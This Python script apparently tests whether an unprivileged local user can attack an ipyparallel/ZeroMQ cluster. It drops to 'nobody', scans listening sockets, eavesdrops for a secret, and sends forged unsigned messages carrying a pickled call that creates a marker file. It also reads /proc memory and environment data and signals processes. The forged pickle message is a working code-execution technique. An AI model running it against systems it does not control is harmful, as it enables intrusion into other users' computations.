"""Attack a cluster as another user of the host: root starts this program, which becomes that user.

    python stranger.py HOME SECRET MARK PID...

Prints JSON: files read below HOME, sockets on which SECRET was heard, data read of processes, signals that arrived.
A forged message that runs on a rank makes the file MARK.
"""

from __future__ import annotations

import json
import os
import pickle
import signal
import sys
import time
from contextlib import suppress
from pathlib import Path
from typing import Any

import zmq

LISTEN = "0A"
NOBODY = 65534


def readable(home: Path) -> list[str]:
    """Return the readable files and folders below `home`, itself included."""
    found = []
    for folder, _, files in os.walk(home, onerror=lambda _: None):
        found += [folder] if os.access(folder, os.R_OK) else []
        found += [name for file in files if os.access(name := os.path.join(folder, file), os.R_OK)]
    return found


def listening() -> set[tuple[str, int]]:
    """Return (address, port) of every listening socket on this host, which every user can see."""
    found = set()
    for line in Path("/proc/net/tcp").read_text().splitlines()[1:]:
        local, state = line.split()[1], line.split()[3]
        if state == LISTEN:
            address, port = local.split(":")
            found.add((".".join(str(byte) for byte in reversed(bytes.fromhex(address))), int(port, 16)))
    return found


def heard(sockets: list[Any], secret: bytes, seconds: float) -> list[str]:
    """Return the sockets on which a subscriber hears `secret`."""
    poller, found = zmq.Poller(), set()
    for sock in sockets:
        poller.register(sock, zmq.POLLIN)
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        for sock, _ in poller.poll(100):
            if any(secret in frame for frame in sock.recv_multipart()):
                found.add(sock.get_string(zmq.LAST_ENDPOINT))
    return sorted(found)


def forged(mark: str, rank: int) -> list[bytes]:
    """Return a call as the client sends it, without the key. It is made by hand, because ipyparallel would sign it."""
    header = {"msg_id": "1", "msg_type": "apply_request", "username": "x", "session": "x", "version": "5.3"}
    call = pickle.dumps((os.mkdir, (mark,)))
    content = [json.dumps(each).encode() for each in (header, {}, {}, {})]
    return [f"{rank}".encode(), b"<IDS|MSG>", b"", *content, call]


def main() -> None:
    home, secret, mark, *pids = sys.argv[1:]
    # Change the user after the imports: perhaps only root can read root's Python.
    os.setgroups([])
    os.setresgid(NOBODY, NOBODY, NOBODY)
    os.setresuid(NOBODY, NOBODY, NOBODY)
    context, subscribed, asked = zmq.Context(), [], []
    for address, port in sorted(listening()):
        for kind, into in ((zmq.SUB, subscribed), (zmq.DEALER, asked)):
            sock = context.socket(kind)
            sock.linger = 0
            if kind == zmq.SUB:
                sock.subscribe(b"")
            sock.connect(f"tcp://{address if address != '0.0.0.0' else '127.0.0.1'}:{port}")
            into.append(sock)
    for sock in asked:
        for rank in range(2):
            with suppress(
                zmq.Again
            ):  # the listener has already closed the connection, because it expects another protocol
                sock.send_multipart(forged(mark, rank), zmq.NOBLOCK)
    print("listening", file=sys.stderr, flush=True)
    ports = heard(subscribed, secret.encode(), 3.0)
    context.destroy(linger=0)
    processes, signals = [], []
    for pid in map(int, pids):
        for part in ("environ", "mem", "maps"):
            try:
                processes.append(f"{pid} {part} {open(f'/proc/{pid}/{part}', 'rb').read(1)!r}")
            except OSError:
                continue
        try:
            os.kill(pid, signal.SIGINT)
            signals.append(pid)
        except PermissionError:
            continue
    print(json.dumps({"files": readable(Path(home)), "heard": ports, "processes": processes, "signals": signals}))


if __name__ == "__main__":
    main()
